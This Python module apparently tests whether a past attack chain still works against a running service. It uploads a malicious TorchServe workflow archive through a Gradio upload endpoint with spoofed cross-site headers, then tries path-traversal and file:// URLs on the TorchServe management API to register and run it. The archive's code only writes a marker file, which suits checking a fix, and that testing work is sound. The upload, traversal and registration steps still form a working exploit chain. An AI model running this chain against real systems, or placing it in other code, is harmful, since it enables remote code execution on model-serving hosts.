"""The steps of an attack that once ran code in a service, each usable against a running service."""

import io
import json
import time
import zipfile
from pathlib import Path
from urllib.parse import quote

import httpx

HOSTILE = {
    "Host": "rebound.attacker.example",
    "Origin": "http://attacker.example",
    "Sec-Fetch-Site": "cross-site",
}


def workflow_archive(marker):
    """A TorchServe workflow whose code, once imported, leaves a file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "WAR-INF/MANIFEST.json",
            json.dumps(
                {
                    "createdOn": "01/01/2026",
                    "runtime": "python",
                    "archiverVersion": "0.2.15",
                    "workflow": {
                        "workflowName": "evil",
                        "specFile": "spec.yaml",
                        "handler": "evil.py",
                    },
                }
            ),
        )
        archive.writestr(
            "spec.yaml",
            "models: {min-workers: 1, max-workers: 1, batch-size: 1, max-batch-delay: 50, "
            "retry-attempts: 1, timeout-ms: 9000}\ndag:\n  first: [second]\n",
        )
        archive.writestr(
            "evil.py",
            f"open({str(marker)!r}, 'w').close()\n\n\n"
            "def first(data, context):\n    return data\n\n\nsecond = first\n",
        )
    return out.getvalue()


def upload(page, archive, headers):
    """Step 1: upload a file as a visited web site would; returns its path on the server."""
    answer = httpx.post(
        f"{page}/gradio_api/upload",
        files={"files": ("evil.war", archive)},
        headers=headers,
        timeout=30,
    )
    if answer.status_code != 200:
        return None
    (path,) = answer.json()
    return str(path)


def fetch_addresses(archive, store):
    """Step 2: URLs from which TorchServe might fetch a file into its workflow store."""
    relative = Path(*[".."] * 8) / archive.relative_to("/")
    return [
        f"file://{archive}",
        f"file://{store}/{relative}",
        f"file://{store}/../{archive.parent.name}/{archive.name}",
        f"file://{store}/%2e%2e/{archive.name}",
        f"FILE://{archive}",
        f"file:{archive}",
        f"file://localhost{archive}",
        f"{store}/{relative}",
        str(archive),
        "http://127.0.0.1:9/evil.war",
    ]


def register(management, addresses):
    """Steps 2 and 3: register workflows and models by URL or name; returns the statuses."""
    found = []
    for address in [*addresses, "evil.war"]:
        url = quote(address, safe="")
        found += [
            management.post(path, headers={"Content-Type": "text/plain"}, timeout=90).status_code
            for path in (f"/workflows?url={url}", f"/models?url={url}&initial_workers=1")
        ]
    return found


def was_run(marker, seconds=5.0):
    """Whether the archive's code ran. Waits a moment, because a worker needs time to import it."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if marker.exists():
            return True
        time.sleep(0.2)
    return False
